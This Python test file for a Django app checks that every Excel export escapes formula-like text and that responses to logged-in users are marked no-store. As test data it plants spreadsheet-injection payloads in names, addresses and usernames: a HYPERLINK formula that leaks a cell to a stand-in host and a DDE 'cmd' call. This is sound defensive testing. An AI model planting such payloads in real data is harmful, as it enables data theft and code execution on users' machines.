"""The access matrix, hardening (issue 11, findings 4 and 13): every Excel export of the matrix,
as every role, with names, addresses, area names, source names, subscription names, unmapped
codes and a login username planted as formulas, writes no formula; and every page, export and
API answer to a logged-in user is marked ``Cache-Control: no-store``."""

from __future__ import annotations

import io
import zipfile

import pytest
from django.contrib.auth import get_user_model
from django.test import Client
from openpyxl import load_workbook

from renfang.accounts.tests.test_access_matrix import (
    KEYS,
    ROLES,
    ROUTES,
    Route,
    _request,
    clients,
    world,
)
from renfang.areas.models import Area
from renfang.core.spreadsheets import FORMULA_STARTS, GUARD
from renfang.exchange.models import Subscription
from renfang.houses.models import House
from renfang.people.facts.planting import by_hand
from renfang.people.models import Person
from renfang.sources.models import Source, UnmappedCode
from renfang.testing.matrix import World

__all__ = ["clients", "world"]  # the matrix's fixtures

PAYLOAD = '=HYPERLINK("http://evil.example/?leak="&E2,"x")'


def _is_export(route: Route) -> bool:
    return route.name.endswith("_export")


EXPORTS = [route for route in ROUTES if _is_export(route)]


def _plant_formulas(world: World) -> None:
    """Every text an export shows, as something a spreadsheet would evaluate."""
    for key, planted in world.planted.items():
        with by_hand():  # names no source would give, typed straight in
            Person.objects.filter(pk=planted.person.pk).update(name=f"={key}+1")
        planted.person.refresh_from_db()
    House.objects.update(address=PAYLOAD + "天平路1号", road="@SUM(1)")
    Area.objects.filter(level__in=["committee", "street"]).update(name="+cmd|' /C calc'!A0")
    Source.objects.update(name=PAYLOAD)
    Subscription.objects.update(name="-2+3")
    UnmappedCode.objects.update(value="\t=1+1")
    # A failed login: the username goes into the audit log, and so into the auditor's export
    # (a name that is no account only as its fingerprint; an account's name as it is, and
    # Django lets a username start with "-", "+" or "@").
    Client().post("/login/", {"username": PAYLOAD, "password": "wrong password 1!"})
    get_user_model().objects.create_user(username="-2+3", password="a long enough one 1!")
    Client().post("/login/", {"username": "-2+3", "password": "wrong password 1!"})


def _cells(content: bytes) -> tuple[list[str], list[str]]:
    """(formula cells, text cells) of every sheet of a workbook."""
    formulas: list[str] = []
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        for name in book.namelist():
            if name.startswith("xl/worksheets/") and b"<f>" in book.read(name):
                formulas.append(name)
    texts = [
        value
        for sheet in load_workbook(io.BytesIO(content)).worksheets
        for row in sheet.iter_rows(values_only=True)
        for value in row
        if isinstance(value, str)
    ]
    return formulas, texts


@pytest.mark.parametrize("role", ROLES)
def test_no_export_writes_a_formula(role: str, world: World, clients: dict[str, Client]) -> None:
    _plant_formulas(world)
    problems: list[str] = []
    guarded: set[str] = set()
    for route in EXPORTS:
        for key in KEYS:
            response = _request(clients[role], route, world.planted[key])
            if getattr(response, "status_code", 0) == 303:  # a number: behind a token
                response = clients[role].get(response["Location"])  # type: ignore[index]
            if getattr(response, "status_code", 0) != 200:
                continue
            formulas, texts = _cells(response.content)  # type: ignore[attr-defined]
            if formulas:
                problems.append(f"{route.name} for {key}: formula cells in {formulas}")
            live = [t for t in texts if t.startswith(FORMULA_STARTS)]
            if live:
                problems.append(f"{route.name} for {key}: unguarded text {live[:3]}")
            if any(t.startswith(GUARD) for t in texts):
                guarded.add(route.name)
    assert not problems, problems
    if role == "district_admin":
        # The planted values reached the exports (the test looks at real data).
        assert guarded >= {
            "web:search_people_export",
            "web:search_houses_export",
            "web:area_subareas_export",
            "web:sources_export",
            "web:unmapped_codes_export",
            "web:subscriptions_export",
        }, guarded
    if role == "auditor":
        assert "audit:events_export" in guarded


@pytest.mark.parametrize("role", ["district_admin", "department_reader", "auditor"])
def test_no_answer_to_a_logged_in_user_is_kept_by_a_browser_or_proxy(
    role: str, world: World, clients: dict[str, Client]
) -> None:
    """Every route of the matrix (pages, exports, API; found or not, allowed or not) answers
    ``Cache-Control: no-store`` and carries the Content-Security-Policy."""
    problems = []
    for route in ROUTES:
        response = _request(clients[role], route, world.planted["A1"])
        cache = response.get("Cache-Control", "")  # type: ignore[attr-defined]
        if "no-store" not in cache or response.get("Pragma") != "no-cache":  # type: ignore[attr-defined]
            problems.append(f"{route.name}: Cache-Control {cache!r}")
        if "Content-Security-Policy" not in response:  # type: ignore[operator]
            problems.append(f"{route.name}: no Content-Security-Policy")
    assert not problems, problems
